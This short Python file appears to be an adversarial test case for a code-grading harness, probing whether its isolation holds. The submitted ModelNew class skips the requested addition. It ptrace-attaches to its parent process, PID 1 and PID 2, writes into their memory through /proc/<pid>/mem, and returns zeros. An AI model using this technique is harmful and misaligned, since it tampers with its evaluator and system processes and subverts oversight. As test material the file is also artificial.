"""Attaches to its parent as a debugger and rewrites its memory.

layer: process
mechanism: ptrace and process_vm_writev reach into processes of the same user.
problem: add
expected: wrong_value, runtime_error
device: cpu
timed: no
"""

import ctypes
import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def forward(self, a, b):
        libc = ctypes.CDLL(None)
        for process in (os.getppid(), 1, 2):
            libc.ptrace(16, process, None, None)
            try:
                with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
                    memory.seek(0x400000)
                    memory.write(b"\0")
            except (OSError, ValueError):
                pass
        return torch.zeros_like(a)
